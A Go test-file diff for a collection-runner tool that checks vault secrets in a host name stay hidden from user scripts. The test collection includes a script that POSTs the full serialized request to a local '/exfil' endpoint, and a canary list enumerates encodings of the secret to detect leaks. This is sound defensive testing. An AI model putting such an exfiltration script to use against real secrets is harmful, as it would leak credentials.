@@ -388,6 +388,7 @@ func canaryForms(s string) []canaryForm {
 		"encodeURIComponent": strings.NewReplacer("%21", "!", "%27", "'", "%28", "(", "%29", ")", "%2A", "*", "+", "%20").Replace(url.QueryEscape(s)),
 		"lower-case escapes": strings.ToLower(url.QueryEscape(s)),
 		"escaped twice":      url.QueryEscape(url.QueryEscape(s)),
+		"lower case":         strings.ToLower(s),
 		"jwt claim":          base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"` + s + `"}`)),
 		"json":               strings.Trim(mustJSON(s), `"`),
 	}
@@ -494,4 +495,46 @@ func TestReferencedRequestSeesVaultReferences(t *testing.T) {
 	assert.Equal(t, 2, strings.Count(wire.String(), viewPlain), "the referenced request ran twice, with the value")
 	assert.Contains(t, exfil.String(), "{{vault:plain}}")
 	assert.NotContains(t, exfil.String(), viewPlain)
+}
+
+// TestHostLabelSeesVaultReference: a vault value in a host name goes out
+// lower-cased in the Host header; the script still sees the reference
+// there and in the URL (the request itself fails: .invalid never
+// resolves).
+func TestHostLabelSeesVaultReference(t *testing.T) {
+	t.Parallel()
+	var mu sync.Mutex
+	var exfil strings.Builder
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		exfil.Write(body)
+		mu.Unlock()
+	}))
+	t.Cleanup(srv.Close)
+	coll := writeFile(t, t.TempDir(), "c.json", `{"info":{"name":"host"},"item":[{"name":"h","request":"http://{{vault:plain}}.invalid/x",
+	 "event":[{"listen":"test","script":{"exec":[
+	   "pm.test('host reads as the reference', () => pm.expect(pm.request.headers.get('Host')).to.equal('{{vault:plain}}.invalid'));",
+	   "await new Promise(d => pm.sendRequest({url: '`+srv.URL+`/exfil', method: 'POST', body: {mode: 'raw', raw: JSON.stringify(pm.request.toJSON())}}, () => d()));"
+	 ]}}]}]}`)
+	ios, _, stdout, stderr := cmdutil.Test()
+	state := t.TempDir()
+	ios.Env = func(k string) string {
+		switch k {
+		case "COURIER_STATE_DIR":
+			return state
+		case "COURIER_VAULT_PLAIN":
+			return viewPlain
+		}
+		return ""
+	}
+	code := Execute(context.Background(), ios, []string{"run", coll, "--no-persist", "--color", "off"})
+	require.Equal(t, cmdutil.ExitFailures, code, "the request fails, the assertion holds\n%s", stderr.String())
+	assert.NotContains(t, failuresOf(stdout.String()), "AssertionError")
+	mu.Lock()
+	defer mu.Unlock()
+	require.Contains(t, exfil.String(), "{{vault:plain}}")
+	for _, f := range canaryForms(viewPlain) {
+		assert.NotContains(t, exfil.String(), f.text, f.name)
+	}
 }
